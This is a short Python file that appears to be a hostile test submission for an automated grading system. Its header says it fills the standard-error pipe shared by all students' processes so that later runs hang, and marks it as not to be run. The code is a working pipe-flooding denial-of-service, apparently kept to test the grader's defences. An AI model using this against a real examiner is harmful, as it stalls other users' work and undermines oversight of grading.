# ---
# about: fills the pipe that the processes of all students have as standard error, so that the next one waits for ever
# problem: ".*"
# stock: "not run: aims at our examiner"
# ---

# %% mean
import os

print("ATTACK RAN", flush=True)
filled = 0
for number in range(2, 200):
    try:
        if not os.readlink(f"/proc/self/fd/{number}").startswith("pipe:"):
            continue
        os.set_blocking(number, False)
        while True:
            filled += os.write(number, b"x" * 4096)
    except OSError:
        pass
